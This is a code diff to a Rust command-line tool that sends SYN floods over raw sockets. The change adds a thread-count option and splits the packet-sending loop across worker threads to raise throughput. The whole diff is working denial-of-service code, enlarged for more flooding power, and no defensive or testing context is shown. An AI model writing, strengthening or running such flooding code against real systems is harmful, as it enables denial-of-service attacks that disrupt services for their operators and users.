@@ -33,6 +33,9 @@ pub(crate) struct SynFloodArgs {
     /// SYNs to send
     #[arg(long, default_value_t = 1_000_000)]
     count: u64,
+    /// Threads that send
+    #[arg(long, default_value_t = 2)]
+    threads: u64,
     /// Longest time, in seconds
     #[arg(long, default_value_t = 30.0, value_name = "SECONDS")]
     seconds: f64,
@@ -80,15 +83,39 @@ fn parse_network(text: &str) -> Result<Network, String> {
 
 /// Sends until the count or the time is used up.
 pub(crate) fn run(args: &SynFloodArgs) -> Result<SynFloodReport, Error> {
-    let socket = raw_to(SocketAddr::new(args.to.into(), 0))?;
-    let mut rng = SmallRng::seed_from_u64(args.seed);
-    let mut batch = Batch::connected(BATCH, LENGTH);
-    let mut ports = args.ports.clone().cycle();
     let begin = Instant::now();
     let end = begin + Duration::from_secs_f64(args.seconds);
+    let threads = args.threads.max(1);
+    let sent: Result<Vec<u64>, Error> = std::thread::scope(|scope| {
+        let workers: Vec<_> = (0..threads)
+            .map(|n| {
+                let count = (n + 1) * args.count / threads - n * args.count / threads;
+                scope.spawn(move || send(args, count, args.seed.wrapping_add(n), end))
+            })
+            .collect();
+        workers
+            .into_iter()
+            .map(|w| w.join().expect("a worker never panics"))
+            .collect()
+    });
+    let sent = sent?.iter().sum();
+    let seconds = begin.elapsed().as_secs_f64();
+    Ok(SynFloodReport {
+        sent,
+        seconds,
+        rate: sent as f64 / seconds,
+    })
+}
+
+/// One thread's share; how many the kernel took.
+fn send(args: &SynFloodArgs, count: u64, seed: u64, end: Instant) -> Result<u64, Error> {
+    let socket = raw_to(SocketAddr::new(args.to.into(), 0))?;
+    let mut rng = SmallRng::seed_from_u64(seed);
+    let mut batch = Batch::connected(BATCH, LENGTH);
+    let mut ports = args.ports.clone().cycle();
     let mut sent = 0;
-    while sent < args.count && Instant::now() < end {
-        let wanted = BATCH.min(usize::try_from(args.count - sent).unwrap_or(BATCH));
+    while sent < count && Instant::now() < end {
+        let wanted = BATCH.min(usize::try_from(count - sent).unwrap_or(BATCH));
         for index in 0..wanted {
             let port = ports.next().unwrap_or(80);
             let packet = syn(
@@ -107,12 +134,7 @@ pub(crate) fn run(args: &SynFloodArgs) -> Result<SynFloodReport, Error> {
             Err(e) => return Err(Error::new("send SYNs", e)),
         }
     }
-    let seconds = begin.elapsed().as_secs_f64();
-    Ok(SynFloodReport {
-        sent,
-        seconds,
-        rate: sent as f64 / seconds,
-    })
+    Ok(sent)
 }
 
 /// A SYN; the kernel fills in the IP header's checksum and identification.
